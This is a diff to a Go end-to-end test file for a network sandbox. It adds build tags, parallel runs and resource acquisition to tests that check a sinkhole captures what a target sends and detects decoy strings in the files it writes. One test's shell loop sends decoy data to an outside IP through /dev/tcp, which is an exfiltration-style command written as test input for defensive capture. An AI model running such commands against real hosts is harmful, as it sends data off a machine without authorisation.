@@ -1,3 +1,5 @@
+//go:build linux && e2e
+
 package sandbox_test
 
 import (
@@ -45,6 +47,8 @@ func said(flows []trace.Flow, port uint16) (text string, hits int) {
 // TestSinkholeTellsWhatWasSentBeforeASync: all that a target has sent when a
 // sync begins is with the sink when it returns, TCP and UDP, without any wait.
 func TestSinkholeTellsWhatWasSentBeforeASync(t *testing.T) {
+	t.Parallel()
+	sandboxtest.Acquire(t, sandboxtest.Light)
 	kinds(t, func(t *testing.T, b sandboxtest.Bare, traceSet string) {
 		s := spec("bash", "-c", `while read -r n; do
 			echo "tcp $n `+decoySent+`" >/dev/tcp/93.184.216.34/7000
@@ -79,6 +83,7 @@ func TestSinkholeTellsWhatWasSentBeforeASync(t *testing.T) {
 // TestSinkIsApart: the process that answers is no one's that the target could
 // be, holds no capability, and its death is told.
 func TestSinkIsApart(t *testing.T) {
+	sandboxtest.Acquire(t, sandboxtest.Light)
 	sandboxtest.Need(t, "userns")
 	if os.Getuid() != 0 {
 		t.Skip("an ordinary user may map no second uid")
@@ -155,6 +160,8 @@ func sinkOf(t *testing.T) int {
 // TestSearch: a decoy in a file that the target wrote is told, raw and packed,
 // and no link leads elsewhere.
 func TestSearch(t *testing.T) {
+	t.Parallel()
+	sandboxtest.Acquire(t, sandboxtest.Light)
 	kinds(t, func(t *testing.T, b sandboxtest.Bare, traceSet string) {
 		dir, err := os.MkdirTemp("", "written")
 		if err != nil {
